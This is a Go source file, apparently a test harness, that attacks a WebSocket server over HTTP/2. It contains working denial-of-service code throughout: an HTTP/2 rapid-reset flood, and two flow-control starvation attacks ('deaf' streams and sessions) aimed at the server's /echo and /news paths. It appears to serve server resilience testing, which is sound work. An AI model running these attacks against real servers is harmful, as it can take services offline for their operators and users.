//go:build linux

package main

import (
	"bytes"
	"context"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A session is an HTTP/2 connection of an attacker.
type session struct {
	conn   net.Conn
	mu     sync.Mutex // held while the framer writes
	framer *http2.Framer
	head   bytes.Buffer
	hpack  *hpack.Encoder
	next   uint32 // stream
}

func newSession(addr string, i int) (*session, error) {
	conn, err := connect(addr, i)
	if err != nil {
		return nil, err
	}
	s := &session{conn: conn, framer: http2.NewFramer(conn, conn), next: 1}
	s.hpack = hpack.NewEncoder(&s.head)
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	return s, s.framer.WriteSettings()
}

// open opens a stream with a handshake on it.
func (s *session) open(path string) error {
	s.head.Reset()
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "CONNECT"}, {Name: ":protocol", Value: "websocket"}, {Name: ":scheme", Value: "http"},
		{Name: ":path", Value: path}, {Name: ":authority", Value: "localhost"}, {Name: "sec-websocket-version", Value: "13"},
	} {
		s.hpack.WriteField(f)
	}
	s.next += 2
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.next - 2, BlockFragment: s.head.Bytes(), EndHeaders: true})
}

// drain reads what the server sends, and acknowledges nothing but its settings.
func (s *session) drain() {
	for {
		f, err := s.framer.ReadFrame()
		if err != nil {
			return
		}
		if settings, ok := f.(*http2.SettingsFrame); ok && !settings.IsAck() {
			s.mu.Lock()
			s.framer.WriteSettingsAck()
			s.mu.Unlock()
		}
	}
}

// rapidReset opens 2,000 sockets a second on 20 connections, and resets each at once. A connection that the server ends
// is made anew.
func rapidReset(addr string, d time.Duration, _ float64) error {
	_, _, addr = addresses(addr)
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	var wg sync.WaitGroup
	failed := make(chan error, 20)
	for i := range 20 {
		wg.Go(func() {
			for ctx.Err() == nil {
				s, err := newSession(addr, i)
				if err != nil {
					failed <- err
					return
				}
				go s.drain()
				for tick := time.NewTicker(10 * time.Millisecond); err == nil && ctx.Err() == nil; <-tick.C {
					if err = s.open("/echo"); err == nil {
						s.mu.Lock()
						err = s.framer.WriteRSTStream(s.next-2, http2.ErrCodeCancel)
						s.mu.Unlock()
					}
				}
				s.conn.Close()
			}
		})
	}
	wg.Wait()
	close(failed)
	return <-failed
}

// deafStreams opens sockets that get news, and gives back none of the flow control that these use up.
func deafStreams(addr string, d time.Duration, scale float64) error {
	return openNews(addr, d, scale, func(s *session) error {
		go s.drain()
		return nil
	})
}

// deafSessions gives out flow control without end, and reads nothing.
func deafSessions(addr string, d time.Duration, scale float64) error {
	return openNews(addr, d, scale, func(s *session) error {
		if err := s.conn.(*net.TCPConn).SetReadBuffer(4 << 10); err != nil {
			return err
		}
		if err := s.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30}); err != nil {
			return err
		}
		return s.framer.WriteWindowUpdate(0, 1<<30)
	})
}

// openNews opens connections of a hundred sockets each.
func openNews(addr string, d time.Duration, scale float64, begin func(*session) error) error {
	_, _, addr = addresses(addr)
	const streams = 100
	for i := range max(1, int(scale*2000/streams)) {
		s, err := newSession(addr, i)
		if err != nil {
			return err
		}
		defer s.conn.Close()
		if err := begin(s); err != nil {
			return err
		}
		for range streams {
			if err := s.open("/news"); err != nil {
				return err
			}
			time.Sleep(time.Millisecond)
		}
	}
	time.Sleep(d)
	return nil
}
